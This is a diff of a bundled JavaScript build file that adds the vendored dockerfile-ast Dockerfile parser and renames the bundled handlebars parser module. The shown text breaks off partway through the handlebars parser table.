+          this.escapeChar = dockerfile.getEscapeCharacter();
+          offset = this.document.offsetAt(vscode_languageserver_types_1.Position.create(directives.length, 0));
+        } else if (util_1.Util.isUTF8BOM(buffer.substring(0, 1))) {
+          offset = 1;
+        }
+        for (let i = offset; i < this.buffer.length; i++) {
+          const char = this.buffer.charAt(i);
+          switch (char) {
+            case " ":
+            case "	":
+            case "\r":
+            case "\n":
+              break;
+            case "#":
+              i = this.processComment(dockerfile, i);
+              break;
+            default:
+              i = this.processInstruction(dockerfile, char, i);
+              break;
+          }
+        }
+        dockerfile.organizeComments();
+        return dockerfile;
+      }
+      processInstruction(dockerfile, char, start) {
+        let instruction = char;
+        let instructionEnd = -1;
+        let escapedInstruction = false;
+        instructionCheck: for (let i = start + 1; i < this.buffer.length; i++) {
+          char = this.buffer.charAt(i);
+          switch (char) {
+            case this.escapeChar:
+              escapedInstruction = true;
+              char = this.buffer.charAt(i + 1);
+              if (char === "\r" || char === "\n") {
+                if (instructionEnd === -1) {
+                  instructionEnd = i;
+                }
+                i++;
+              } else if (char === " " || char === "	") {
+                for (let j = i + 2; j < this.buffer.length; j++) {
+                  switch (this.buffer.charAt(j)) {
+                    case " ":
+                    case "	":
+                      break;
+                    case "\r":
+                    case "\n":
+                      i = j;
+                      continue instructionCheck;
+                    default:
+                      instructionEnd = i + 1;
+                      instruction = instruction + this.escapeChar;
+                      i = j - 2;
+                      continue instructionCheck;
+                  }
+                }
+                instructionEnd = i + 1;
+                instruction = instruction + this.escapeChar;
+                break instructionCheck;
+              } else {
+                instructionEnd = i + 1;
+                instruction = instruction + this.escapeChar;
+                escapedInstruction = false;
+              }
+              break;
+            case " ":
+            case "	":
+              if (escapedInstruction) {
+                escapeCheck: for (let j = i + 1; j < this.buffer.length; j++) {
+                  switch (this.buffer.charAt(j)) {
+                    case " ":
+                    case "	":
+                      break;
+                    case "\r":
+                    case "\n":
+                      i = j;
+                      continue instructionCheck;
+                    default:
+                      break escapeCheck;
+                  }
+                }
+                escapedInstruction = false;
+              }
+              if (instructionEnd === -1) {
+                instructionEnd = i;
+              }
+              i = this.processArguments(dockerfile, instruction, instructionEnd, start, i);
+              dockerfile.addInstruction(this.createInstruction(dockerfile, instruction, start, instructionEnd, i));
+              return i;
+            case "\r":
+            case "\n":
+              if (escapedInstruction) {
+                continue;
+              }
+              if (instructionEnd === -1) {
+                instructionEnd = i;
+              }
+              dockerfile.addInstruction(this.createInstruction(dockerfile, instruction, start, i, i));
+              return i;
+            case "#":
+              if (escapedInstruction) {
+                continue;
+              }
+            default:
+              instructionEnd = i + 1;
+              instruction = instruction + char;
+              escapedInstruction = false;
+              break;
+          }
+        }
+        if (instructionEnd === -1) {
+          instructionEnd = this.buffer.length;
+        }
+        dockerfile.addInstruction(this.createInstruction(dockerfile, instruction, start, instructionEnd, this.buffer.length));
+        return this.buffer.length;
+      }
+      processHeredocs(instruction, offset) {
+        let keyword = instruction.getKeyword();
+        if (keyword === main_1.Keyword.ONBUILD) {
+          instruction = instruction.getTriggerInstruction();
+          if (instruction === null) {
+            return offset;
+          }
+          keyword = instruction.getKeyword();
+        }
+        if (keyword !== main_1.Keyword.ADD && keyword !== main_1.Keyword.COPY && keyword !== main_1.Keyword.RUN) {
+          return offset;
+        }
+        const heredocs = [];
+        let tabbed = false;
+        for (const arg of instruction.getArguments()) {
+          const value = arg.getValue();
+          if (value.startsWith("<<") && value.length > 2) {
+            if (value.startsWith("<<-")) {
+              tabbed = true;
+            }
+            const name = util_1.Util.parseHeredocName(value);
+            if (name !== null) {
+              heredocs.push(name);
+            }
+          }
+        }
+        if (heredocs.length > 0) {
+          for (const heredoc of heredocs) {
+            offset = this.parseHeredoc(heredoc, offset, tabbed);
+          }
+        }
+        return offset;
+      }
+      processArguments(dockerfile, instruction, instructionEnd, start, offset) {
+        let escaped = false;
+        argumentsCheck: for (let i = offset + 1; i < this.buffer.length; i++) {
+          switch (this.buffer.charAt(i)) {
+            case "\r":
+            case "\n":
+              if (escaped) {
+                continue;
+              }
+              return this.processHeredocs(this.createInstruction(dockerfile, instruction, start, instructionEnd, i), i);
+            case this.escapeChar:
+              const next = this.buffer.charAt(i + 1);
+              if (next === "\n" || next === "\r") {
+                escaped = true;
+                i++;
+              } else if (next === " " || next === "	") {
+                for (let j = i + 2; j < this.buffer.length; j++) {
+                  switch (this.buffer.charAt(j)) {
+                    case " ":
+                    case "	":
+                      break;
+                    case "\r":
+                    case "\n":
+                      escaped = true;
+                    default:
+                      i = j;
+                      continue argumentsCheck;
+                  }
+                }
+                return this.buffer.length;
+              }
+              continue;
+            case "#":
+              if (escaped) {
+                i = this.processComment(dockerfile, i);
+                continue argumentsCheck;
+              }
+              break;
+            case " ":
+            case "	":
+              break;
+            default:
+              if (escaped) {
+                escaped = false;
+              }
+              break;
+          }
+        }
+        return this.buffer.length;
+      }
+      processComment(dockerfile, start) {
+        let end = this.buffer.length;
+        commentLoop: for (let i = start + 1; i < this.buffer.length; i++) {
+          switch (this.buffer.charAt(i)) {
+            case "\r":
+            case "\n":
+              end = i;
+              break commentLoop;
+          }
+        }
+        const range3 = vscode_languageserver_types_1.Range.create(this.document.positionAt(start), this.document.positionAt(end));
+        dockerfile.addComment(new comment_1.Comment(this.document, range3));
+        return end;
+      }
+      parseHeredoc(heredocName, offset, tabbed) {
+        let startWord = -1;
+        let lineStart = true;
+        for (let i = offset; i < this.buffer.length; i++) {
+          switch (this.buffer.charAt(i)) {
+            case " ":
+              lineStart = false;
+              break;
+            case "	":
+              if (!tabbed) {
+                lineStart = false;
+              }
+              break;
+            case "\r":
+            case "\n":
+              if (startWord !== -1 && heredocName === this.buffer.substring(startWord, i)) {
+                return i;
+              }
+              startWord = -1;
+              lineStart = true;
+              break;
+            default:
+              if (lineStart) {
+                startWord = i;
+                lineStart = false;
+              }
+              break;
+          }
+        }
+        return this.buffer.length;
+      }
+      createInstruction(dockerfile, instruction, start, instructionEnd, end) {
+        const startPosition = this.document.positionAt(start);
+        const instructionRange = vscode_languageserver_types_1.Range.create(startPosition, this.document.positionAt(instructionEnd));
+        const lineRange = vscode_languageserver_types_1.Range.create(startPosition, this.document.positionAt(end));
+        return _Parser.createInstruction(this.document, dockerfile, this.escapeChar, lineRange, instruction, instructionRange);
+      }
+    };
+    exports.Parser = Parser2;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/main.js
+var require_main = __commonJS({
+  "node_modules/dockerfile-ast/lib/main.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.DockerfileParser = exports.DefaultVariables = exports.Directive = exports.Keyword = exports.Workdir = exports.Volume = exports.User = exports.Stopsignal = exports.Shell = exports.Run = exports.PropertyInstruction = exports.Onbuild = exports.ModifiableInstruction = exports.Label = exports.JSONInstruction = exports.Heredoc = exports.Healthcheck = exports.From = exports.Env = exports.Entrypoint = exports.Copy = exports.Cmd = exports.Arg = exports.Add = exports.Variable = exports.Property = exports.ParserDirective = exports.Line = exports.Instruction = exports.Flag = exports.Comment = exports.JSONArgument = exports.Argument = void 0;
+    var argument_1 = require_argument();
+    Object.defineProperty(exports, "Argument", { enumerable: true, get: function() {
+      return argument_1.Argument;
+    } });
+    var jsonArgument_1 = require_jsonArgument();
+    Object.defineProperty(exports, "JSONArgument", { enumerable: true, get: function() {
+      return jsonArgument_1.JSONArgument;
+    } });
+    var comment_1 = require_comment();
+    Object.defineProperty(exports, "Comment", { enumerable: true, get: function() {
+      return comment_1.Comment;
+    } });
+    var parser_1 = require_parser2();
+    var flag_1 = require_flag();
+    Object.defineProperty(exports, "Flag", { enumerable: true, get: function() {
+      return flag_1.Flag;
+    } });
+    var instruction_1 = require_instruction();
+    Object.defineProperty(exports, "Instruction", { enumerable: true, get: function() {
+      return instruction_1.Instruction;
+    } });
+    var line_1 = require_line();
+    Object.defineProperty(exports, "Line", { enumerable: true, get: function() {
+      return line_1.Line;
+    } });
+    var parserDirective_1 = require_parserDirective();
+    Object.defineProperty(exports, "ParserDirective", { enumerable: true, get: function() {
+      return parserDirective_1.ParserDirective;
+    } });
+    var property_1 = require_property();
+    Object.defineProperty(exports, "Property", { enumerable: true, get: function() {
+      return property_1.Property;
+    } });
+    var variable_1 = require_variable();
+    Object.defineProperty(exports, "Variable", { enumerable: true, get: function() {
+      return variable_1.Variable;
+    } });
+    var add_1 = require_add();
+    Object.defineProperty(exports, "Add", { enumerable: true, get: function() {
+      return add_1.Add;
+    } });
+    var arg_1 = require_arg();
+    Object.defineProperty(exports, "Arg", { enumerable: true, get: function() {
+      return arg_1.Arg;
+    } });
+    var cmd_1 = require_cmd();
+    Object.defineProperty(exports, "Cmd", { enumerable: true, get: function() {
+      return cmd_1.Cmd;
+    } });
+    var copy_1 = require_copy();
+    Object.defineProperty(exports, "Copy", { enumerable: true, get: function() {
+      return copy_1.Copy;
+    } });
+    var entrypoint_1 = require_entrypoint();
+    Object.defineProperty(exports, "Entrypoint", { enumerable: true, get: function() {
+      return entrypoint_1.Entrypoint;
+    } });
+    var env_1 = require_env();
+    Object.defineProperty(exports, "Env", { enumerable: true, get: function() {
+      return env_1.Env;
+    } });
+    var from_1 = require_from();
+    Object.defineProperty(exports, "From", { enumerable: true, get: function() {
+      return from_1.From;
+    } });
+    var healthcheck_1 = require_healthcheck();
+    Object.defineProperty(exports, "Healthcheck", { enumerable: true, get: function() {
+      return healthcheck_1.Healthcheck;
+    } });
+    var heredoc_1 = require_heredoc();
+    Object.defineProperty(exports, "Heredoc", { enumerable: true, get: function() {
+      return heredoc_1.Heredoc;
+    } });
+    var jsonInstruction_1 = require_jsonInstruction();
+    Object.defineProperty(exports, "JSONInstruction", { enumerable: true, get: function() {
+      return jsonInstruction_1.JSONInstruction;
+    } });
+    var label_1 = require_label();
+    Object.defineProperty(exports, "Label", { enumerable: true, get: function() {
+      return label_1.Label;
+    } });
+    var modifiableInstruction_1 = require_modifiableInstruction();
+    Object.defineProperty(exports, "ModifiableInstruction", { enumerable: true, get: function() {
+      return modifiableInstruction_1.ModifiableInstruction;
+    } });
+    var onbuild_1 = require_onbuild();
+    Object.defineProperty(exports, "Onbuild", { enumerable: true, get: function() {
+      return onbuild_1.Onbuild;
+    } });
+    var propertyInstruction_1 = require_propertyInstruction();
+    Object.defineProperty(exports, "PropertyInstruction", { enumerable: true, get: function() {
+      return propertyInstruction_1.PropertyInstruction;
+    } });
+    var run_1 = require_run();
+    Object.defineProperty(exports, "Run", { enumerable: true, get: function() {
+      return run_1.Run;
+    } });
+    var shell_1 = require_shell();
+    Object.defineProperty(exports, "Shell", { enumerable: true, get: function() {
+      return shell_1.Shell;
+    } });
+    var stopsignal_1 = require_stopsignal();
+    Object.defineProperty(exports, "Stopsignal", { enumerable: true, get: function() {
+      return stopsignal_1.Stopsignal;
+    } });
+    var user_1 = require_user();
+    Object.defineProperty(exports, "User", { enumerable: true, get: function() {
+      return user_1.User;
+    } });
+    var volume_1 = require_volume();
+    Object.defineProperty(exports, "Volume", { enumerable: true, get: function() {
+      return volume_1.Volume;
+    } });
+    var workdir_1 = require_workdir();
+    Object.defineProperty(exports, "Workdir", { enumerable: true, get: function() {
+      return workdir_1.Workdir;
+    } });
+    var Keyword;
+    (function(Keyword2) {
+      Keyword2["ADD"] = "ADD";
+      Keyword2["ARG"] = "ARG";
+      Keyword2["CMD"] = "CMD";
+      Keyword2["COPY"] = "COPY";
+      Keyword2["ENTRYPOINT"] = "ENTRYPOINT";
+      Keyword2["ENV"] = "ENV";
+      Keyword2["EXPOSE"] = "EXPOSE";
+      Keyword2["FROM"] = "FROM";
+      Keyword2["HEALTHCHECK"] = "HEALTHCHECK";
+      Keyword2["LABEL"] = "LABEL";
+      Keyword2["MAINTAINER"] = "MAINTAINER";
+      Keyword2["ONBUILD"] = "ONBUILD";
+      Keyword2["RUN"] = "RUN";
+      Keyword2["SHELL"] = "SHELL";
+      Keyword2["STOPSIGNAL"] = "STOPSIGNAL";
+      Keyword2["USER"] = "USER";
+      Keyword2["VOLUME"] = "VOLUME";
+      Keyword2["WORKDIR"] = "WORKDIR";
+    })(Keyword || (exports.Keyword = Keyword = {}));
+    var Directive;
+    (function(Directive2) {
+      Directive2["escape"] = "escape";
+      Directive2["syntax"] = "syntax";
+    })(Directive || (exports.Directive = Directive = {}));
+    exports.DefaultVariables = [
+      "ALL_PROXY",
+      "all_proxy",
+      "FTP_PROXY",
+      "ftp_proxy",
+      "HTTP_PROXY",
+      "http_proxy",
+      "HTTPS_PROXY",
+      "https_proxy",
+      "NO_PROXY",
+      "no_proxy"
+    ];
+    var DockerfileParser2;
+    (function(DockerfileParser3) {
+      function parse(content) {
+        let parser = new parser_1.Parser();
+        return parser.parse(content);
+      }
+      DockerfileParser3.parse = parse;
+    })(DockerfileParser2 || (exports.DockerfileParser = DockerfileParser2 = {}));
   }
 });
 
@@ -27680,7 +33509,7 @@ var require_ast = __commonJS({
 });
 
 // node_modules/handlebars/dist/cjs/handlebars/compiler/parser.js
-var require_parser2 = __commonJS({
+var require_parser3 = __commonJS({
   "node_modules/handlebars/dist/cjs/handlebars/compiler/parser.js"(exports, module) {
     "use strict";
     exports.__esModule = true;
@@ -27939,7 +33768,7 @@ var require_parser2 = __commonJS({
         },
         table: [{ 3: 1, 4: 2, 5: [2, 46], 6: 3, 14: [2, 46], 15: [2, 46], 19: [2, 46], 29: [2, 46], 34: [2, 46], 48: [2, 46], 51: [2, 46], 55: [2, 46], 60: [2, 46] }, { 1: [3] }, { 5: [1, 4] }, { 5: [2, 2], 7: 5, 8: 6, 9: 7, 10: 8, 11: 9, 12: 10, 13: 11, 14: [1, 12], 15: [1, 20], 16: 17, 19: [1, 23], 24: 15, 27: 16, 29: [1, 21], 34: [1, 22], 39: [2, 2], 44: [2, 2], 47: [2, 2], 48: [1, 13], 51: [1, 14], 55: [1, 18], 59: 19, 60: [1, 24] }, { 1: [2, 1] }, { 5: [2, 47], 14: [2, 47], 15: [2, 47], 19: [2, 47], 29: [2, 47], 34: [2, 47], 39: [2, 47], 44: [2, 47], 47: [2, 47], 48: [2, 47], 51: [2, 47], 55: [2, 47], 60: [2, 47] }, { 5: [2, 3], 14: [2, 3], 15: [2, 3], 19: [2, 3], 29: [2, 3], 34: [2, 3], 39: [2, 3], 44: [2, 3], 47: [2, 3], 48: [2, 3], 51: [2, 3], 55: [2, 3], 60: [2, 3] }, { 5: [2, 4], 14: [2, 4], 15: [2, 4], 19: [2, 4], 29: [2, 4], 34: [2, 4], 39: [2, 4], 44: [2, 4], 47: [2, 4], 48: [2, 4], 51: [2, 4], 55: [2, 4], 60: [2, 4] }, { 5: [2, 5], 14: [2, 5], 15: [2, 5], 19: [2, 5], 29: [2, 5], 34: [2, 5], 39: [2, 5], 44: [2, 5], 47: [2, 5], 48: [2, 5], 51: [2, 5], 55: [2, 5], 60: [2, 5] }, { 5: [2, 6], 14: [2, 6], 15: [2, 6], 19: [2, 6], 29: [2, 6], 34: [2, 6], 39: [2, 6], 44: [2, 6], 47: [2, 6], 48: [2, 6], 51: [2, 6], 55: [2, 6], 60: [2, 6] }, { 5: [2, 7], 14: [2, 7], 15: [2, 7], 19: [2, 7], 29: [2, 7], 34: [2, 7], 39: [2, 7], 44: [2, 7], 47: [2, 7], 48: [2, 7], 51: [2, 7], 55: [2, 7], 60: [2, 7] }, { 5: [2, 8], 14: [2, 8], 15: [2, 8], 19: [2, 8], 29: [2, 8], 34: [2, 8], 39: [2, 8], 44: [2, 8], 47: [2, 8], 48: [2, 8], 51: [2, 8], 55: [2, 8], 60: [2, 8] }, { 5: [2, 9], 14: [2, 9], 15: [2, 9], 19: [2, 9], 29: [2, 9], 34: [2, 9], 39: [2, 9], 44: [2, 9], 47: [2, 9], 48: [2, 9], 51: [2, 9], 55: [2, 9], 60: [2, 9] }, { 20: 25, 72: [1, 35], 78: 26, 79: 27, 80: [1, 28], 81: [1, 29], 82: [1, 30], 83: [1, 31], 84: [1, 32], 85: [1, 34], 86: 33 }, { 20: 36, 72: [1, 35], 78: 26, 79: 27, 80: [1, 28], 81: [1, 29], 82: [1, 30], 83: [1, 31], 84: [1, 32], 85: [1, 34], 86: 33 }, { 4: 37, 6: 3, 14: [2, 46], 15: [2, 46], 19: [2, 46], 29: [2, 46], 34: [2, 46], 39: [2, 46], 44: [2, 46], 47: [2, 46], 48: [2, 46], 51: [2, 46], 55: [2, 46], 60: [2, 46] }, { 4: 38, 6: 3, 14: [2, 46], 15: [2, 46], 19: [2, 46], 29: [2, 46], 34: [2, 46], 44: [2, 46], 47: [2, 46], 48: [2, 46], 51: [2, 46], 55: [2, 46], 60: [2, 46] }, { 15: [2, 48], 17: 39, 18: [2, 48] }, { 20: 41, 56: 40, 64: 42, 65: [1, 43], 72: [1, 35], 78: 26, 79: 27, 80: [1, 28], 81: [1, 29], 82: [1, 30], 83: [1, 31], 84: [1, 32], 85: [1, 34], 86: 33 }, { 4: 44, 6: 3, 14: [2, 46], 15: [2, 46], 19: [2, 46], 29: [2, 46], 34: [2, 46], 47: [2, 46], 48: [2, 46], 51: [2, 46], 55: [2, 46], 60: [2, 46] }, { 5: [2, 10], 14: [2, 10], 15: [2, 10], 18: [2, 10], 19: [2, 10], 29: [2, 10], 34: [2, 10], 39: [2, 10], 44: [2, 10], 47: [2, 10], 48: [2, 10], 51: [2, 10], 55: [2, 10], 60: [2, 10] }, { 20: 45, 72: [1, 35], 78: 26, 79: 27, 80: [1, 28], 81: [1, 29], 82: [1, 30], 83: [1, 31], 84: [1, 32], 85: [1, 34], 86: 33 }, { 20: 46, 72: [1, 35], 78: 26, 79: 27, 80: [1, 28], 81: [1, 29], 82: [1, 30], 83: [1, 31], 84: [1, 32], 85: [1, 34], 86: 33 }, { 20: 47, 72: [1, 35], 78: 26, 79: 27, 80: [1, 28], 81: [1, 29], 82: [1, 30], 83: [1, 31], 84: [1, 32], 85: [1, 34], 86: 33 }, { 20: 41, 56: 48, 64: 42, 65: [1, 43], 72: [1, 35], 78: 26, 79: 27, 80: [1, 28], 81: [1, 29], 82: [1, 30], 83: [1, 31], 84: [1, 32], 85: [1, 34], 86: 33 }, { 33: [2, 78], 49: 49, 65: [2, 78], 72: [2, 78], 80: [2, 78], 81: [2, 78], 82: [2, 78], 83: [2, 78], 84: [2, 78], 85: [2, 78] }, { 23: [2, 33], 33: [2, 33], 54: [2, 33], 65: [2, 33], 68: [2, 33], 72: [2, 33], 75: [2, 33], 80: [2, 33], 81: [2, 33], 82: [2, 33], 83: [2, 33], 84: [2, 33], 85: [2, 33] }, { 23: [2, 34], 33: [2, 34], 54: [2, 34], 65: [2, 34], 68: [2, 34], 72: [2, 34], 75: [2, 34], 80: [2, 34], 81: [2, 34], 82: [2, 34], 83: [2, 34], 84: [2, 34], 85: [2, 34] }, { 23: [2, 35], 33: [2, 35], 54: [2, 35], 65: [2, 35], 68: [2, 35], 72: [2, 35], 75: [2, 35], 80: [2, 35], 81: [2, 35], 82: [2, 35], 83: [2, 35], 84: [2, 35], 85: [2, 35] }, { 23: [2, 36], 33: [2, 36], 54: [2, 36], 65: [2, 36], 68: [2, 36], 72: [2, 36], 75: [2, 36], 80: [2, 36], 81: [2, 36], 82: [2, 36], 83: [2, 36], 84: [2, 36], 85: [2, 36] }, { 23: [2, 37], 33: [2, 37], 54: [2, 37], 65: [2, 37], 68: [2, 37], 72: [2, 37], 75: [2, 37], 80: [2, 37], 81: [2, 37], 82: [2, 37], 83: [2, 37], 84: [2, 37], 85: [2, 37] }, { 23: [2, 38], 33: [2, 38], 54: [2, 38], 65: [2, 38], 68: [2, 38], 72: [2, 38], 75: [2, 38], 80: [2, 38], 81: [2, 38], 82: [2, 38], 83: [2, 38], 84: [2, 38], 85: [2, 38] }, { 23: [2, 39], 33: [2, 39], 54: [2, 39], 65: [2, 39], 68: [2, 39], 72: [2, 39], 75: [2, 39], 80: [2, 39], 81: [2, 39], 82: [2, 39], 83: [2, 39], 84: [2, 39], 85: [2, 39] }, { 23: [2, 43], 33: [2, 43], 54: [2, 43], 65: [2, 43], 68: [2, 43], 72: [2, 43], 75: [2, 43], 80: [2, 43], 81: [2, 43], 82: [2, 43], 83: [2, 43], 84: [2, 43], 85: [2, 43], 87: [1, 50] }, { 72: [1, 35], 86: 51 }, { 23: [2, 45], 33: [2, 45], 54: [2, 45], 65: [2, 45], 68: [2, 45], 72: [2, 45], 75: [2, 45], 80: [2, 45], 81: [2, 45], 82: [2, 45], 83: [2, 45], 84: [2, 45], 85: [2, 45], 87: [2, 45] }, { 52: 52, 54: [2, 82], 65: [2, 82], 72: [2, 82], 80: [2, 82], 81: [2, 82], 82: [2, 82], 83: [2, 82], 84: [2, 82], 85: [2, 82] }, { 25: 53, 38: 55, 39: [1, 57], 43: 56, 44: [1, 58], 45: 54, 47: [2, 54] }, { 28: 59, 43: 60, 44: [1, 58], 47: [2, 56] }, { 13: 62, 15: [1, 20], 18: [1, 61] }, { 33: [2, 86], 57: 63, 65: [2, 86], 72: [2, 86], 80: [2, 86], 81: [2, 86], 82: [2, 86], 83: [2, 86], 84: [2, 86], 85: [2, 86] }, { 33: [2, 40], 65: [2, 40], 72: [2, 40], 80: [2, 40], 81: [2, 40], 82: [2, 40], 83: [2, 40], 84: [2, 40], 85: [2, 40] }, { 33: [2, 41], 65: [2, 41], 72: [2, 41], 80: [2, 41], 81: [2, 41], 82: [2, 41], 83: [2, 41], 84: [2, 41], 85: [2, 41] }, { 20: 64, 72: [1, 35], 78: 26, 79: 27, 80: [1, 28], 81: [1, 29], 82: [1, 30], 83: [1, 31], 84: [1, 32], 85: [1, 34], 86: 33 }, { 26: 65, 47: [1, 66] }, { 30: 67, 33: [2, 58], 65: [2, 58], 72: [2, 58], 75: [2, 58], 80: [2, 58], 81: [2, 58], 82: [2, 58], 83: [2, 58], 84: [2, 58], 85: [2, 58] }, { 33: [2, 64], 35: 68, 65: [2, 64], 72: [2, 64], 75: [2, 64], 80: [2, 64], 81: [2, 64], 82: [2, 64], 83: [2, 64], 84: [2, 64], 85: [2, 64] }, { 21: 69, 23: [2, 50], 65: [2, 50], 72: [2, 50], 80: [2, 50], 81: [2, 50], 82: [2, 50], 83: [2, 50], 84: [2, 50], 85: [2, 50] }, { 33: [2, 90], 61: 70, 65: [2, 90], 72: [2, 90], 80: [2, 90], 81: [2, 90], 82: [2, 90], 83: [2, 90], 84: [2, 90], 85: [2, 90] }, { 20: 74, 33: [2, 80], 50: 71, 63: 72, 64: 75, 65: [1, 43], 69: 73, 70: 76, 71: 77, 72: [1, 78], 78: 26, 79: 27, 80: [1, 28], 81: [1, 29], 82: [1, 30], 83: [1, 31], 84: [1, 32], 85: [1, 34], 86: 33 }, { 72: [1, 79] }, { 23: [2, 42], 33: [2, 42], 54: [2, 42], 65: [2, 42], 68: [2, 42], 72: [2, 42], 75: [2, 42], 80: [2, 42], 81: [2, 42], 82: [2, 42], 83: [2, 42], 84: [2, 42], 85: [2, 42], 87: [1, 50] }, { 20: 74, 53: 80, 54: [2, 84], 63: 81, 64: 75, 65: [1, 43], 69: 82, 70: 76, 71: 77, 72: [1, 78], 78: 26, 79: 27, 80: [1, 28], 81: [1, 29], 82: [1, 30], 83: [1, 31], 84: [1, 32], 85: [1, 34], 86: 33 }, { 26: 83, 47: [1, 66] }, { 47: [2, 55] }, { 4: 84, 6: 3, 14: [2, 46], 15: [2, 46], 19: [2, 46], 29: [2, 46], 34: [2, 46], 39: [2, 46], 44: [2, 46], 47: [2, 46], 48: [2, 46], 51: [2, 46], 55: [2, 46], 60: [2, 46] }, { 47: [2, 20] }, { 20: 85, 72: [1, 35], 78: 26, 79: 27, 80: [1, 28], 81: [1, 29], 82: [1, 30], 83: [1, 31], 84: [1, 32], 85: [1, 34], 86: 33 }, { 4: 86, 6: 3, 14: [2, 46], 15: [2, 46], 19: [2, 46], 29: [2, 46], 34: [2, 46], 47: [2, 46], 48: [2, 46], 51: [2, 46], 55: [2, 46], 60: [2, 46] }, { 26: 87, 47: [1, 66] }, { 47: [2, 57] }, { 5: [2, 11], 14: [2, 11], 15: [2, 11], 19: [2, 11], 29: [2, 11], 34: [2, 11], 39: [2, 11], 44: [2, 11], 47: [2, 11], 48: [2, 11], 51: [2, 11], 55: [2, 11], 60: [2, 11] }, { 15: [2, 49], 18: [2, 49] }, { 20: 74, 33: [2, 88], 58: 88, 63: 89, 64: 75, 65: [1, 43], 69: 90, 70: 76, 71: 77, 72: [1, 78], 78: 26, 79: 27, 80: [1, 28], 81: [1, 29], 82: [1, 30], 83: [1, 31], 84: [1, 32], 85: [1, 34], 86: 33 }, { 65: [2, 94], 66: 91, 68: [2, 94], 72: [2, 94], 80: [2, 94], 81: [2, 94], 82: [2, 94], 83: [2, 94], 84: [2, 94], 85: [2, 94] }, { 5: [2, 25], 14: [2, 25], 15: [2, 25], 19: [2, 25], 29: [2, 25], 34: [2, 25], 39: [2, 25], 44: [2, 25], 47: [2, 25], 48: [2, 25], 51: [2, 25], 55: [2, 25], 60: [2, 25] }, { 20: 92, 72: [1, 35], 78: 26, 79: 27, 80: [1, 28], 81: [1, 29], 82: [1, 30], 83: [1, 31], 84: [1, 32], 85: [1, 34], 86: 33 }, { 20: 74, 31: 93, 33: [2, 60], 63: 94, 64: 75, 65: [1, 43], 69: 95, 70: 76, 71: 77, 72: [1, 78], 75: [2, 60], 78: 26, 79: 27, 80: [1, 28], 81: [1, 29], 82: [1, 30], 83: [1, 31], 84: [1, 32], 85: [1, 34], 86: 33 }, { 20: 74, 33: [2, 66], 36: 96, 63: 97, 64: 75, 65: [1, 43], 69: 98, 70: 76, 71: 77, 72: [1, 78], 75: [2, 66], 78: 26, 79: 27, 80: [1, 28], 81: [1, 29], 82: [1, 30], 83: [1, 31], 84: [1, 32], 85: [1, 34], 86: 33 }, { 20: 74, 22: 99, 23: [2, 52], 63: 100, 64: 75, 65: [1, 43], 69: 101, 70: 76, 71: 77, 72: [1, 78], 78: 26, 79: 27, 80: [1, 28], 81: [1, 29], 82: [1, 30], 83: [1, 31], 84: [1, 32], 85: [1, 34], 86: 33 }, { 20: 74, 33: [2, 92], 62: 102, 63: 103, 64: 75, 65: [1, 43], 69: 104, 70: 76, 71: 77, 72: [1, 78], 78: 26, 79: 27, 80: [1, 28], 81: [1, 29], 82: [1, 30], 83: [1, 31], 84: [1, 32], 85: [1, 34], 86: 33 }, { 33: [1, 105] }, { 33: [2, 79], 65: [2, 79], 72: [2, 79], 80: [2, 79], 81: [2, 79], 82: [2, 79], 83: [2, 79], 84: [2, 79], 85: [2, 79] }, { 33: [2, 81] }, { 23: [2, 27], 33: [2, 27], 54: [2, 27], 65: [2, 27], 68: [2, 27], 72: [2, 27], 75: [2, 27], 80: [2, 27], 81: [2, 27], 82: [2, 27], 83: [2, 27], 84: [2, 27], 85: [2, 27] }, { 23: [2, 28], 33: [2, 28], 54: [2, 28], 65: [2, 28], 68: [2, 28], 72: [2, 28], 75: [2, 28], 80: [2, 28], 81: [2, 28], 82: [2, 28], 83: [2, 28], 84: [2, 28], 85: [2, 28] }, { 23: [2, 30], 33: [2, 30], 54: [2, 30], 68: [2, 30], 71: 106, 72: [1, 107], 75: [2, 30] }, { 23: [2, 98], 33: [2, 98], 54: [2, 98], 68: [2, 98], 72: [2, 98], 75: [2, 98] }, { 23: [2, 45], 33: [2, 45], 54: [2, 45], 65: [2, 45], 68: [2, 45], 72: [2, 45], 73: [1, 108], 75: [2, 45], 80: [2, 45], 81: [2, 45], 82: [2, 45], 83: [2, 45], 84: [2, 45], 85: [2, 45], 87: [2, 45] }, { 23: [2, 44], 33: [2, 44], 54: [2, 44], 65: [2, 44], 68: [2, 44], 72: [2, 44], 75: [2, 44], 80: [2, 44], 81: [2, 44], 82: [2, 44], 83: [2, 44], 84: [2, 44], 85: [2, 44], 87: [2, 44] }, { 54: [1, 109] }, { 54: [2, 83], 65: [2, 83], 72: [2, 83], 80: [2, 83], 81: [2, 83], 82: [2, 83], 83: [2, 83], 84: [2, 83], 85: [2, 83] }, { 54: [2, 85] }, { 5: [2, 13], 14: [2, 13], 15: [2, 13], 19: [2, 13], 29: [2, 13], 34: [2, 13], 39: [2, 13], 44: [2, 13], 47: [2, 13], 48: [2, 13], 51: [2, 13], 55: [2, 13], 60: [2, 13] }, { 38: 55, 39: [1, 57], 43: 56, 44: [1, 58], 45: 111, 46: 110, 47: [2, 76] }, { 33: [2, 70], 40: 112, 65: [2, 70], 72: [2, 70], 75: [2, 70], 80: [2, 70], 81: [2, 70], 82: [2, 70], 83: [2, 70], 84: [2, 70], 85: [2, 70] }, { 47: [2, 18] }, { 5: [2, 14], 14: [2, 14], 15: [2, 14], 19: [2, 14], 29: [2, 14], 34: [2, 14], 39: [2, 14], 44: [2, 14], 47: [2, 14], 48: [2, 14], 51: [2, 14], 55: [2, 14], 60: [2, 14] }, { 33: [1, 113] }, { 33: [2, 87], 65: [2, 87], 72: [2, 87], 80: [2, 87], 81: [2, 87], 82: [2, 87], 83: [2, 87], 84: [2, 87], 85: [2, 87] }, { 33: [2, 89] }, { 20: 74, 63: 115, 64: 75, 65: [1, 43], 67: 114, 68: [2, 96], 69: 116, 70: 76, 71: 77, 72: [1, 78], 78: 26, 79: 27, 80: [1, 28], 81: [1, 29], 82: [1, 30], 83: [1, 31], 84: [1, 32], 85: [1, 34], 86: 33 }, { 33: [1, 117] }, { 32: 118, 33: [2, 62], 74: 119, 75: [1, 120] }, { 33: [2, 59], 65: [2, 59], 72: [2, 59], 75: [2, 59], 80: [2, 59], 81: [2, 59], 82: [2, 59], 83: [2, 59], 84: [2, 59], 85: [2, 59] }, { 33: [2, 61], 75: [2, 61] }, { 33: [2, 68], 37: 121, 74: 122, 75: [1, 120] }, { 33: [2, 65], 65: 